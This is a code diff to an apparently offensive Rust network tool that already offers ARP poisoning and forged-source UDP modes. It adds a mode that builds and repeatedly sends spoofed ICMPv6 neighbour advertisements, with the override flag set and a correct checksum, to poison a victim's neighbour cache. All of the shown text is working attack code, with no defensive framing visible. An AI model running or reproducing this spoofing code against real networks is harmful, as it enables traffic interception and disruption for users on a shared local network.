@@ -43,6 +43,20 @@ enum Attack {
         #[arg(long, default_value_t = 20)]
         count: u32,
     },
+    /// Unsolicited IPv6 neighbour advertisements (override set) claiming TARGET_IP is at
+    /// this interface's MAC, from SRC_IP to DST_IP / DST_MAC (IPv6's ARP poisoning)
+    Na {
+        #[arg(long)]
+        src_ip: std::net::Ipv6Addr,
+        #[arg(long)]
+        dst_ip: std::net::Ipv6Addr,
+        #[arg(long)]
+        dst_mac: String,
+        #[arg(long)]
+        target_ip: std::net::Ipv6Addr,
+        #[arg(long, default_value_t = 20)]
+        count: u32,
+    },
     /// UDP datagrams with a chosen (forged) source MAC and IPv4 address
     Udp {
         #[arg(long)]
@@ -202,6 +216,35 @@ fn udp_packet(src: Ipv4Addr, dst: Ipv4Addr, port: u16, payload: &[u8]) -> Vec<u8
     ip
 }
 
+/// An IPv6 packet carrying an ICMPv6 neighbour advertisement for `target` with a target
+/// link-layer option of `mac` (solicited flag clear, override set), hop limit 255.
+fn neighbour_advert(
+    src: std::net::Ipv6Addr,
+    dst: std::net::Ipv6Addr,
+    target: std::net::Ipv6Addr,
+    mac: [u8; 6],
+) -> Vec<u8> {
+    let mut icmp = vec![136, 0, 0, 0, 0x20, 0, 0, 0];
+    icmp.extend_from_slice(&target.octets());
+    icmp.extend_from_slice(&[2, 1]);
+    icmp.extend_from_slice(&mac);
+    let mut pseudo = Vec::new();
+    pseudo.extend_from_slice(&src.octets());
+    pseudo.extend_from_slice(&dst.octets());
+    pseudo.extend_from_slice(&(icmp.len() as u32).to_be_bytes());
+    pseudo.extend_from_slice(&[0, 0, 0, 58]);
+    pseudo.extend_from_slice(&icmp);
+    let sum = checksum(&pseudo);
+    icmp[2..4].copy_from_slice(&sum.to_be_bytes());
+    let mut packet = vec![0x60, 0, 0, 0];
+    packet.extend_from_slice(&(icmp.len() as u16).to_be_bytes());
+    packet.extend_from_slice(&[58, 255]);
+    packet.extend_from_slice(&src.octets());
+    packet.extend_from_slice(&dst.octets());
+    packet.extend_from_slice(&icmp);
+    packet
+}
+
 fn send(socket: &OwnedFd, frame: &[u8]) -> anyhow::Result<()> {
     rustix::net::send(socket, frame, SendFlags::empty()).context("send a frame")?;
     Ok(())
@@ -301,6 +344,22 @@ fn run(cli: &Cli) -> anyhow::Result<serde_json::Value> {
                 std::thread::sleep(Duration::from_millis(100));
             }
             Ok(json!({"attack": "arp", "sent": count}))
+        }
+        Attack::Na {
+            src_ip,
+            dst_ip,
+            dst_mac,
+            target_ip,
+            count,
+        } => {
+            let own = own_mac(&cli.interface)?;
+            let packet = neighbour_advert(*src_ip, *dst_ip, *target_ip, own);
+            let frame = ethernet(parse_mac(dst_mac)?, own, 0x86dd, &packet);
+            for _ in 0..*count {
+                send(&socket, &frame)?;
+                std::thread::sleep(Duration::from_millis(100));
+            }
+            Ok(json!({"attack": "na", "sent": count}))
         }
         Attack::Udp {
             src_mac,
